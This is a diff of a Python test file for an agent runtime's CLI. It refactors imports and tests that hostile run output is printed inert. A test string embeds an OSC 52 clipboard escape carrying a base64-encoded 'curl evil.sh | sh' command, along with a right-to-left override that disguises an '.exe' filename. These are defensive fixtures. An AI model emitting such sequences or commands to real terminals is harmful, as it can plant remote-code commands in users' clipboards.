@@ -21,9 +21,8 @@ from aws_lambda_powertools import Logger
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from tests.functional.test_cli import run_cli
-from tests.functional.test_run_page import API, KEY, strict
-from tests.functional.test_triggers_e2e import system  # noqa: F401  (the fixture)
+from tests.cli_support import run_cli
+from tests.pages_support import API, KEY, strict
 from tests.toolsets_support import BILLING_SPEC
 from tests.triggers_support import slack_mention, slack_request
 
@@ -80,7 +79,7 @@ def leaky_flow(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 
 def test_a_scripts_error_quoting_a_secret_leaves_no_part_of_it_anywhere(
-    system,  # noqa: F811
+    system,
     scripted: Any,
     capsys: pytest.CaptureFixture[str],
     leaky_flow: Path,
@@ -175,7 +174,7 @@ def test_runs_show_list_and_stats_print_a_hostile_run_inert_and_the_page_under_t
     """Issue 51, points 3 and 4, and issue 50: through the real CLI. Was: runs stats printed the tool, skill and
     reason names raw (OSC 52 reached the terminal), bidi controls passed into runs show, the page of 750 quote-heavy
     calls was 9.8 MB, and runs show cut the final answer."""
-    from tests.unit.test_inert import unsafe
+    from tests.hostile_support import unsafe
 
     env = stored_runs(tmp_path / "state")
     shown = run_cli("runs", "show", "run-hostile", env=env)
@@ -213,7 +212,7 @@ def test_the_live_trace_prints_a_models_hostile_tool_name_inert(scripted: Any) -
     from agent_runtime.trace import TraceHook
 
     from tests.conftest import make_workflow, model_for
-    from tests.unit.test_inert import unsafe
+    from tests.hostile_support import unsafe
 
     screen = io.StringIO()
     server = scripted(call(OSC52 + "\u202e", {}), reply("done"))
@@ -227,7 +226,7 @@ def test_agent_runtime_runs_error_line_and_json_are_inert(scripted: Any) -> None
     override prints as escapes; `--json` prints the same record with JSON's own escapes."""
     from agent_runtime.testing import Fail
 
-    from tests.unit.test_inert import unsafe
+    from tests.hostile_support import unsafe
 
     said = "Incorrect API key \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \u202egpj.exe"
     server = scripted(Fail(401, said, code="invalid_api_key"), Fail(401, said, code="invalid_api_key"))
